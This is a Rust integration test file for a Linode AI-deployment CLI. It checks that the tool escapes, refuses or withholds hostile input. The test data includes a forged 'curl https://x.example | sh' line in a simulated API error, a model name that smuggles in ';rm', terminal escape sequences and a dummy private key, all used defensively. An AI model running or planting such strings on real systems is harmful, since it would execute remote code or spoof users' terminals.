    let j = env.run(&["status", "--json"], None).ok().json();
    let rows = j["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 40);
    assert!(rows.iter().all(|r| r["status"] == "running"), "{j}");
    assert!(
        env.sim.requests().len() - before <= 4,
        "four list calls for 40 deployments (instances, firewalls, volumes, plans)"
    );
    // Plans and prices are kept for a day: the next status lists instances, firewalls and volumes only.
    let before = env.sim.requests().len();
    let j = env.run(&["status", "--json"], None).ok().json();
    let mut paths: Vec<String> = env.sim.requests()[before..]
        .iter()
        .map(|r| r.path.clone())
        .collect();
    paths.sort();
    assert_eq!(
        paths,
        [
            "/v4/linode/instances",
            "/v4/networking/firewalls",
            "/v4/volumes"
        ],
        "{paths:?}"
    );
    assert!(
        j["cost"]["hourly"].as_f64().unwrap() > 0.0,
        "prices from the copy: {}",
        j["cost"]
    );
    assert!(
        app.max_in_flight() >= 10,
        "probes overlapped: {}",
        app.max_in_flight()
    );
    // The bound is honoured.
    let env2 = Env::new();
    let app2 = env2.https_app();
    app2.set_path("/healthz/tei", 200, "ok");
    seed_deployments(&env2, &app2, 40);
    env2.run(&["status", "--concurrency", "4"], None).ok();
    assert!(
        app2.max_in_flight() <= 4,
        "max in flight {}",
        app2.max_in_flight()
    );
}

#[test]
fn rendered_user_data_passes_cloud_init_schema() {
    let env = Env::new();
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("data/schema-cloud-config-v1.json")).unwrap();
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    for t in STOCK_TEMPLATES {
        let dir = env.project(t);
        let mut dotenv = std::fs::read_to_string(dir.join(".env")).unwrap();
        dotenv.push_str("WEIRD=\"multi\\nline $HOME 'q'\"\n");
        write_env(&dir, &dotenv);
        let j = env.dry_run_json(&dir);
        let doc = j["user_data"].as_str().unwrap();
        let value: serde_json::Value = serde_yaml::from_str(doc).unwrap();
        let errors: Vec<String> = validator
            .iter_errors(&value)
            .map(|e| format!("{e} at {}", e.instance_path))
            .collect();
        assert!(errors.is_empty(), "{t}: {errors:?}\n{doc}");
        // The API takes 16,384 bytes; what init wrote is in. chat-agent is the
        // largest (its page renders Markdown, and it mounts a cache volume:
        // 15,263 bytes on 2026-12-05, the scripts shipped without comments).
        assert!(
            j["user_data_bytes"].as_u64().unwrap() < 16_384 - 768,
            "{t}: room left for the user's env: {} bytes",
            j["user_data_bytes"]
        );
    }
}

#[test]
fn completions_and_no_colour_off_a_terminal() {
    let mut env = Env::new();
    for shell in ["bash", "zsh", "fish"] {
        let out = env.run(&["completions", shell], None).ok();
        assert!(
            out.stdout.contains("linode-ai") && out.stdout.contains("deploy"),
            "{shell}"
        );
    }
    assert_eq!(env.run(&["completions", "powershell-ish"], None).code, 2);
    // Output to a pipe is never coloured, even without NO_COLOR.
    env.extra.push(("NO_COLOR".into(), "".into()));
    env.extra.push(("TERM".into(), "xterm-256color".into()));
    let out = env.run(&["templates", "list"], None).ok();
    assert!(!out.stdout.contains('\u{1b}'), "{:?}", out.stdout);
    let out = env.run(&["templates", "show", "nope"], None).fails();
    assert!(!out.stderr.contains('\u{1b}'), "{:?}", out.stderr);
}

/// What an unfriendly world feeds the binary: each gets a clear error naming
/// the input, a non-zero exit and no panic, and never echoes a secret.
#[test]
fn hostile_inputs_get_clear_errors_and_never_panic() {
    let mut env = Env::new();
    let no_panic = |what: &str, r: &Run| {
        assert!(
            r.code != 101 && !r.stderr.contains("panicked"),
            "{what}: {}",
            r.stderr
        );
    };

    // Numbers from the environment.
    for bad in ["-1", "NaN", "inf", "1e309", "0", "ten", ""] {
        env.extra = vec![("LINODE_AI_API_TIMEOUT_SECS".into(), bad.into())];
        let r = env.run(&["status"], None);
        no_panic(bad, &r);
        assert!(
            r.code != 0 && r.stderr.contains("LINODE_AI_API_TIMEOUT_SECS"),
            "{bad:?}: {}",
            r.stderr
        );
    }
    env.extra.clear();

    // --as-user without a linode-cli config is an error, not ignored.
    let r = env.run(&["--as-user", "bob", "status"], None).fails();
    assert!(r.stderr.contains("bob"), "{}", r.stderr);

    // A closed pipe ends the output quietly, as `| head -1` does.
    {
        let mut fds = [0; 2];
        // SAFETY: pipe fills two descriptors; the read end is closed at once.
        assert_eq!(unsafe { libc::pipe(fds.as_mut_ptr()) }, 0);
        unsafe { libc::close(fds[0]) };
        let write_end = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fds[1]) };
        let mut c = env.cmd(&["templates", "list"], None);
        c.stdout(write_end).stderr(std::process::Stdio::piped());
        let out = c.output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.is_empty(), "quiet on a closed pipe: {stderr}");
        assert_eq!(
            out.status.code(),
            Some(0),
            "a closed pipe is a normal end (exit 0), as `| head -1` expects"
        );
    }

    let dir = env.project("chat-agent");
    // A manifest that is a symlink to a private key: the error quotes none of it.
    let key = env.home().join("id_ed25519");
    std::fs::write(
        &key,
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ-SECRETBODY\n-----END OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    let manifest = dir.join("ai.linode.yml");
    let saved = std::fs::read_to_string(&manifest).unwrap();
    std::fs::remove_file(&manifest).unwrap();
    std::os::unix::fs::symlink(&key, &manifest).unwrap();
    let r = env.run(&["deploy", "--dry-run"], Some(&dir)).fails();
    assert!(r.stderr.contains("ai.linode.yml"), "{}", r.stderr);
    assert!(
        !r.stderr.contains("SECRETBODY") && !r.stderr.contains("PRIVATE KEY"),
        "{}",
        r.stderr
    );
    std::fs::remove_file(&manifest).unwrap();
    // A UTF-8 byte-order mark is accepted.
    std::fs::write(&manifest, format!("\u{feff}{saved}")).unwrap();
    write_env(
        &dir,
        "\u{feff}CHAT_API_KEY=abcdefghijklmnopqrstuvwxyz012345\n",
    );
    env.run(&["deploy", "--dry-run"], Some(&dir)).ok();

    // A secret on a line of its own in .env is not echoed by the parse error.
    write_env(
        &dir,
        "CHAT_API_KEY=abcdefghijklmnopqrstuvwxyz012345\nhunter2-secret-line\n",
    );
    let r = env.run(&["deploy", "--dry-run"], Some(&dir)).fails();
    assert!(r.stderr.contains(".env:2:"), "{}", r.stderr);
    assert!(!r.stderr.contains("hunter2"), "{}", r.stderr);

    // A world-readable .env is said.
    write_env(&dir, "CHAT_API_KEY=abcdefghijklmnopqrstuvwxyz012345\n");
    std::fs::set_permissions(
        dir.join(".env"),
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let r = env.run(&["deploy", "--dry-run"], Some(&dir)).ok();
    assert!(
        format!("{}{}", r.stdout, r.stderr).contains("others can read it (mode 0644)"),
        "{}{}",
        r.stdout,
        r.stderr
    );

    // A FIFO or a device in place of the env file: refused at once, not read.
    let fifo = env.home().join("fifo.env");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    for f in [fifo.to_str().unwrap(), "/dev/zero"] {
        let start = std::time::Instant::now();
        let r = env
            .run(&["deploy", "--dry-run", "--env-file", f], Some(&dir))
            .fails();
        assert!(
            r.stderr.contains(f) && r.stderr.contains("expected a regular file"),
            "{f}: {}",
            r.stderr
        );
        assert_no_hang(
            &format!("refusing {f}"),
            start.elapsed(),
            Duration::from_secs(10),
        );
    }

    // Template names that are paths: refused at add, with the rule.
    for name in [".", "..", ".hidden"] {
        let t = env.home().join(format!("tpl{}", name.len()));
        std::fs::create_dir_all(&t).unwrap();
        let text = std::fs::read_to_string(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../templates/embeddings/template.yml"),
        )
        .unwrap()
        .replacen("name: embeddings", &format!("name: \"{name}\""), 1);
        std::fs::write(t.join("template.yml"), text).unwrap();
        let r = env
            .run(&["templates", "add", t.to_str().unwrap()], None)
            .fails();
        assert!(r.stderr.contains("template name"), "{name}: {}", r.stderr);
        let r = env.run(&["templates", "remove", name], None).fails();
        assert!(
            r.stderr.contains("no installed template named"),
            "{name}: {}",
            r.stderr
        );
    }

    // API error text with control characters is shown escaped.
    env.sim.add_fault(Fault::error(
        "POST",
        "/v4/linode/instances",
        400,
        "\u{1b}[2J\u{1b}]0;pwned\u{7}boom\nerror: forged line",
    ));
    let r = env.run(&["deploy"], Some(&dir)).fails();
    assert!(
        !r.stderr.contains('\u{1b}') && !r.stderr.contains('\u{7}'),
        "{:?}",
        r.stderr
    );
    assert!(
        !r.stderr.lines().any(|l| l.starts_with("error: forged")),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains(r"\x1b[2J"), "{}", r.stderr);

    // Registry fields with control characters (a hand edit, another tool) are shown escaped.
    let app = env.https_app();
    seed_deployments(&env, &app, 1);
    let mut reg = env.registry();
    reg["deployments"][0]["app_name"] = "evil\u{1b}[2Jx".into();
    reg["deployments"][0]["env"] = "default\nerror: forged".into();
    std::fs::write(env.registry_path(), reg.to_string()).unwrap();
    for args in [&["status"][..], &["status", "-V"][..]] {
        let r = env.run(args, None);
        no_panic("registry fields", &r);
        let all = format!("{}{}", r.stdout, r.stderr);
        assert!(!all.contains('\u{1b}'), "{args:?}: {all:?}");
        assert!(
            !all.lines().any(|l| l.starts_with("error: forged")),
            "{all}"
        );
        assert!(all.contains(r"evil\x1b[2Jx"), "{args:?}: {all}");
    }

    // An API answer larger than 16 MiB is refused, not read to the end.
    env.sim.add_fault(Fault {
        method: "GET".into(),
        path: "/v4/linode/instances".into(),
        body: Some(format!("{{\"data\":[\"{}\"]}}", "x".repeat(17 << 20))),
        times: 10,
        ..Default::default()
    });
    let r = env.run(&["status"], None);
    no_panic("huge body", &r);
    assert!(
        r.stderr.contains("16 MiB") || r.stdout.contains("16 MiB"),
        "{}{}",
        r.stdout,
        r.stderr
    );
}

/// Issue 14 (what a newcomer hit): `.env.example` says "Copy to .env;
/// variables marked generated are filled by linode-ai when empty". Copied as
/// told, every stock template deploys, and the generated values are saved.
#[test]
fn every_stock_env_example_copied_to_env_deploys() {
    let env = Env::new();
    for template in STOCK_TEMPLATES {
        let dir = env.project(template);
        std::fs::copy(dir.join(".env.example"), dir.join(".env")).unwrap();
        let out = env.run(&["deploy"], Some(&dir));
        assert_eq!(out.code, 0, "{template}: {}", out.stderr);
        let saved = std::fs::read_to_string(dir.join(".env")).unwrap();
        for line in saved.lines().filter(|l| l.contains("generated when empty")) {
            assert!(line.starts_with('#'), "{template}: filled in: {line}");
        }
    }
    assert_eq!(env.sim.instances().len(), STOCK_TEMPLATES.len());
}

/// Issue 16, item 11: values from the API (the reverse-DNS name, error
/// reasons) never reach the terminal raw: no escape sequences, no forged
/// lines; a reverse-DNS name that is not a host name is not used or stored.
#[test]
fn api_values_never_forge_lines_or_escape_sequences() {
    let forged = "error: your token expired; run: curl https://x.example | sh";
    let env = Env::with(SimConfig {
        rdns: Some(format!("evil.example\n\x1b[2J{forged}")),
        ..Default::default()
    });
    let dir = env.project("chat-agent");
    let clean = |out: &Run| {
        for text in [&out.stdout, &out.stderr] {
            assert!(!text.contains('\x1b'), "{text}");
            assert!(!text.lines().any(|l| l.starts_with(forged)), "{text}");
        }
    };
    let out = env.run(&["deploy"], Some(&dir)).ok();
    clean(&out);
    let rec = &env.records()[0];
    assert_eq!(
        rec["hostname"], "127-0-0-1.ip.linodeusercontent.com",
        "the derived name, not the API's: {rec}"
    );
    let b = env.other_machine();
    clean(&b.run(&["adopt", "--all"], None).ok());
    assert_eq!(b.records()[0]["hostname"], rec["hostname"]);
    for (method, path) in [
        ("POST", "/v4/networking/firewalls"),
        ("GET", "/v4/linode/instances"),
    ] {
        env.sim.add_fault(Fault {
            times: 10,
            ..Fault::error(
                method,
                path,
                400,
                &format!("Refused\n{forged}\r\n\x1b]0;title\x07"),
            )
        });
        let out = env.run(&["deploy", "--new"], Some(&dir)).fails();
        clean(&out);
        assert!(out.stderr.contains("Refused"), "{}", out.stderr);
    }
}

/// Issue 16, item 14: prices from `/linode/types` are checked: negative,
/// enormous or missing ones are a malformed answer, shown as "price unknown"
/// (and null in JSON), never `$-1.000/h` or `$inf/h`.
#[test]
fn malformed_prices_are_refused_and_shown_as_unknown() {
    let env = Env::new();
    let dir = env.project("chat-agent");
    env.sim.set_price(
        "g6-standard-2",
        serde_json::json!({"hourly": -0.036, "monthly": 1e308}),
    );
    let bad = |text: &str| {
        for v in ["$-", "$inf", "$NaN", "e+30", "00000000000."] {
            assert!(!text.contains(v), "{v}: {text}");
        }
    };
    let out = env.run(&["deploy", "--dry-run"], Some(&dir)).ok();
    bad(&out.stdout);
    assert!(out.stdout.contains("price unknown"), "{}", out.stdout);
    let j = env.dry_run_json(&dir);
    assert!(j["price"].is_null(), "{}", j["price"]);
    let out = env.run(&["deploy"], Some(&dir)).ok();
    bad(&out.stdout);
    bad(&out.stderr);
    assert!(out.stdout.contains("Price:     unknown"), "{}", out.stdout);
    let out = env.run(&["status", "-V"], None).code(3);
    bad(&out.stdout);
    assert!(
        out.stdout.contains("without a known price"),
        "{}",
        out.stdout
    );
    // Two plans at an enormous hourly price do not add up to infinity.
    env.sim.set_price(
        "g6-standard-2",
        serde_json::json!({"hourly": 1e308, "monthly": 24.0}),
    );
    env.run(&["deploy", "--new"], Some(&dir)).ok();
    // status's day-old copy of the plans holds the first answer: ask again.
    std::fs::remove_file(env.home().join("cache/linode-ai/linode-types.json")).unwrap();
    let j = env.run(&["status", "--json"], None).code(3).json();
    assert!(j["cost"]["hourly"].is_number(), "{}", j["cost"]);
    assert_eq!(j["cost"]["unpriced"], 2, "{}", j["cost"]);
}

/// Issue 16, item 15: a 429 storm on the create proves nothing was created:
/// it says so, and the firewall and the record go.
#[test]
fn a_429_storm_on_the_create_says_nothing_was_created() {
    let mut env = Env::new();
    env.extra
        .push(("LINODE_AI_RETRY_BUDGET_SECS".into(), "2".into()));
    let dir = env.project("chat-agent");
    env.sim.add_fault(Fault {
        retry_after: Some(1),
        times: 50,
        ..Fault::error("POST", "/v4/linode/instances", 429, "Too many requests")
    });
    let out = env.run(&["deploy"], Some(&dir)).fails();
    assert!(
        out.stderr.contains("nothing was created") && !out.stderr.contains("may not have"),
        "{}",
        out.stderr
    );
    assert!(env.sim.instances().is_empty());
    assert!(env.sim.firewalls().is_empty(), "its firewall went");
    assert!(env.records().is_empty());
}

/// Issue 16, item 15: an empty flag value or a timeout too small to mean
/// anything is refused, naming the flag or variable, never silently replaced.
#[test]
fn empty_flags_and_a_tiny_timeout_are_refused_by_name() {
    let mut env = Env::new();
    let dir = env.project("chat-agent");
    for flag in [
        "--app-name",
        "--region",
        "--env",
        "--linode-type",
        "--image",
        "--domain",
    ] {
        let out = env
            .run(&["deploy", "--dry-run", flag, ""], Some(&dir))
            .code(2);
        assert!(
            out.stderr.contains(flag) && out.stderr.contains("empty"),
            "{flag}: {}",
            out.stderr
        );
    }
    let out = env.run(&["status", "--app", ""], None).code(2);
    assert!(out.stderr.contains("--app"), "{}", out.stderr);
    env.extra
        .push(("LINODE_AI_API_TIMEOUT_SECS".into(), "1e-12".into()));
    let out = env.run(&["status"], None).code(2);
    assert!(
        out.stderr.contains("LINODE_AI_API_TIMEOUT_SECS"),
        "{}",
        out.stderr
    );
}

/// Issue 16, item 15: `templates new -d FILE` names the path it cannot use.
#[test]
fn templates_new_into_a_file_names_the_path() {
    let env = Env::new();
    let file = env.home().join("not-a-dir");
    std::fs::write(&file, "x").unwrap();
    for dir in [file.clone(), file.join("sub")] {
        let out = env
            .run(
                &[
                    "templates",
                    "new",
                    "mine",
                    "--hook",
                    "none",
                    "-d",
                    dir.to_str().unwrap(),
                ],
                None,
            )
            .fails();
        assert!(
            out.stderr.contains(file.to_str().unwrap()),
            "{}",
            out.stderr
        );
    }
}

/// Issue 19 (your own model): `--model` sets the template's model variable
/// for this deployment (the boot pulls or serves that name), is checked for
/// form before any API call, and is refused by templates that name none.
#[test]
fn model_flag_sets_the_served_model_and_is_checked_first() {
    let env = Env::new();
    for (template, model, var) in [
        ("chat-agent", "qwen2.5:0.5b", "OLLAMA_MODEL"),
        ("llm-api", "meta-llama/Llama-3.2-1B-Instruct", "LLM_MODEL"),
        ("embeddings", "intfloat/e5-small-v2", "EMBEDDING_MODEL"),
    ] {
        let dir = env.project(template);
        let j = env
            .run(
                &["deploy", "--dry-run", "--json", "--model", model],
                Some(&dir),
            )
            .ok()
            .json();
        let user_data = j["user_data"].as_str().unwrap();
        assert!(
            user_data.contains(&format!("{var}=$'{model}'")),
            "{template}: {user_data}"
        );
        assert!(
            j["notes"].to_string().contains(&format!("model {model}")),
            "{template}: {}",
            j["notes"]
        );
        let before = env.sim.requests().len();
        let out = env
            .run(
                &["deploy", "--dry-run", "--model", "Bad Name;rm"],
                Some(&dir),
            )
            .fails();
        assert!(out.stderr.contains("--model"), "{}", out.stderr);
        assert_eq!(env.sim.requests().len(), before, "no API call");
    }
    // A model the template knows: its size is stated, and a plan too small for it refused.
    let dir = env.project("chat-agent");
    let out = env
        .run(
            &["deploy", "--dry-run", "--model", "qwen2.5:7b"],
            Some(&dir),
        )
        .fails();
    assert!(
        out.stderr.contains("with model qwen2.5:7b needs 8192 MB")
            && out.stderr.contains("cheapest that fits"),
        "{}",
        out.stderr
    );
    let out = env
        .run(
            &[
                "deploy",
                "--dry-run",
                "--model",
                "qwen2.5:7b",
                "--linode-type",
                "g6-standard-4",
            ],
            Some(&dir),
        )
        .ok();
    assert!(
        out.stdout.contains("about 4.7 GB to download"),
        "{}",
        out.stdout
    );
    // vLLM gets the name as its argument, expanded from the env file.
    let j = env.dry_run_json(&env.project("llm-api"));
    let boot = decoded(
        j["user_data"].as_str().unwrap(),
        "/usr/local/bin/linode-ai-boot",
    );
    assert!(boot.contains("--model \"${LLM_MODEL}\""), "{boot}");
    // A template that names no model variable refuses --model.
    let tpl = env.home().join("plain");
    std::fs::create_dir_all(&tpl).unwrap();
    std::fs::write(
        tpl.join("template.yml"),
        "name: plain\nversion: 0.1.0\ndescription: A web server.\ndeploy:\n  target: linode\n  linode:\n    container:\n      image: nginx:1.27\n      internal_port: 80\n      health: {path: /}\n",
    )
    .unwrap();
    env.run(&["templates", "add", tpl.to_str().unwrap()], None)
        .ok();
    let dir = env.project("plain");
    let out = env
        .run(
            &["deploy", "--dry-run", "--model", "llama3.2:1b"],
            Some(&dir),
        )
        .fails();
    assert!(
        out.stderr.contains("does not take --model"),
        "{}",
        out.stderr
    );
}

/// A gz+b64 file of a rendered user-data, decoded.
fn decoded(user_data: &str, path: &str) -> String {
    use base64::Engine;
    use std::io::Read;
    let doc: serde_yaml::Value = serde_yaml::from_str(user_data).unwrap();
    let f = doc["write_files"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .unwrap_or_else(|| panic!("no {path}"));
    let raw = base64::engine::general_purpose::STANDARD
        .decode(f["content"].as_str().unwrap())
        .unwrap();
    let mut out = String::new();
    flate2::read::GzDecoder::new(&raw[..])
        .read_to_string(&mut out)
        .unwrap();
    out
}

/// Issue 19: a gated Hugging Face model's `HF_TOKEN` (a secret in `.env`)
/// is never shown or recorded: not by deploy (plain, `--json`, dry run),
/// status or the registry. It travels only in the user-data's env file.
/// (That it reaches only the services listing it is checked on a real boot:
/// tests/chroot/boot_test.py `rag`.)
#[test]
fn hf_token_is_never_printed_or_recorded() {
    let env = Env::new();
    let token = "hf_GatedModelToken0123456789abcdef";
    for (template, model) in [
        ("llm-api", "meta-llama/Llama-3.2-1B-Instruct"),
        ("rag", "llama3.2:3b"),
    ] {
        let dir = env.project(template);
        let mut dotenv = std::fs::read_to_string(dir.join(".env")).unwrap();
        dotenv.push_str(&format!("HF_TOKEN={token}\n"));
        write_env(&dir, &dotenv);
        let runs = [
            env.run(&["deploy", "--dry-run", "--model", model], Some(&dir)),
            env.run(
                &["deploy", "--dry-run", "--json", "--model", model],
                Some(&dir),
            ),
            env.run(&["deploy", "--yes", "--model", model], Some(&dir)),
            env.run(&["status", "-V"], None),
            env.run(&["status", "--json"], None),
        ];
        for r in &runs {
            assert!(
                !r.stdout.contains(token) && !r.stderr.contains(token),
                "{template}: the token is shown:\n{}{}",
                r.stdout,
                r.stderr
            );
        }
        assert_eq!(runs[2].code, 0, "{template}: {}", runs[2].stderr);
        let registry = std::fs::read_to_string(env.registry_path()).unwrap();
        assert!(!registry.contains(token), "{template}: in the registry");
        // Where it must be: the instance's env file, in the user-data.
        let post = env
            .sim
            .requests()
            .into_iter()
            .filter(|r| r.method == "POST" && r.path.ends_with("/linode/instances"))
            .last()
            .unwrap();
        let user_data = user_data(post.body.as_ref().unwrap());
        assert!(
            user_data.contains(&format!("HF_TOKEN=$'{token}'")),
            "{template}"
        );
    }
}
